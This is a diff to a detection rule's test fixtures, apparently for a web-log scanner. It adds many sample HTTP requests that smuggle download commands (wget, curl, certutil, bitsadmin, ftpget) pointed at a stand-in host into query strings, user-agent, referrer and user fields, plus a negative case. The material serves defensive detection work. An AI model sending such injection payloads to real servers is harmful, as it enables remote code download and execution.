@@ -1,3 +1,4 @@
+import { each } from '../example.ts'
 import { defineRule } from '../rule.ts'
 
 export default defineRule({
@@ -49,6 +50,27 @@ export default defineRule({
     'GET /run?cmd=busybox+wget+203.0.113.9/m+-O+/tmp/m HTTP/1.1',
     'GET /a?c=$(curl${IFS}-s${IFS}evil.example/p|sh) HTTP/1.1',
     { request: 'GET / HTTP/1.1', agent: '() { :;}; /usr/bin/wget http://203.0.113.9/bot.pl' },
+    'GET /cgi-bin/test.cgi?x=%5Cnwget%20http://203.0.113.9/a.sh HTTP/1.1',
+    ...each(
+      'GET /cgi-bin/test.cgi?x=;{}%20http://203.0.113.9/a.sh HTTP/1.1',
+      'lwp-download lynx fetch aria2c certutil bitsadmin',
+    ),
+    'GET /run?cmd=busybox+wget+http://m+-O+/tmp/m HTTP/1.1',
+    'GET /run?cmd=busybox+wget+ftp://m+-O+/tmp/m HTTP/1.1',
+    'GET /set.cgi?ntp=`ftpget%20-g%20-r%20mips%20203.0.113.9` HTTP/1.1',
+    'GET /;wget%20http:/203.0.113.9/a.sh HTTP/1.1',
+    {
+      request: 'GET / HTTP/1.1',
+      referrer: 'https://www.example.com/cgi-bin/test.cgi?x=;wget%20http://203.0.113.9/a.sh',
+    },
+    { request: 'GET / HTTP/1.1', user: ';wget http:/203.0.113.9/a.sh' },
+    { request: 'GET / HTTP/1.1', user: 'wget http:/203.0.113.9/a.sh' },
+    ...each(
+      'GET /cgi-bin/test.cgi?x=;{}http://203.0.113.9/a.sh HTTP/1.1',
+      'wget%2B wget, curl%2B curl,',
+    ),
+    'GET /cgi-bin/test.cgi?x=;wget.exe%20http://203.0.113.9/a.sh HTTP/1.1',
+    'GET /cgi-bin/test.cgi?x=;curl.exe%20http://203.0.113.9/a.sh HTTP/1.1',
   ],
   misses: [
     { request: 'GET / HTTP/1.1', agent: 'curl/7.88.1' },
@@ -56,5 +78,9 @@ export default defineRule({
     { request: 'GET /feed HTTP/1.1', agent: 'link fetch (+http://bot.example/about)' },
     'GET /docs/wget-manual?from=http://docs.example/ HTTP/1.1', // no call, only a name
     'GET /docs?q=how+to+use+curl HTTP/1.1',
+    {
+      message:
+        'upstream timed out, request: "GET /cgi-bin/test.cgi?x=;wget%20http://203.0.113.9/a.sh HTTP/1.1"',
+    },
   ],
 })
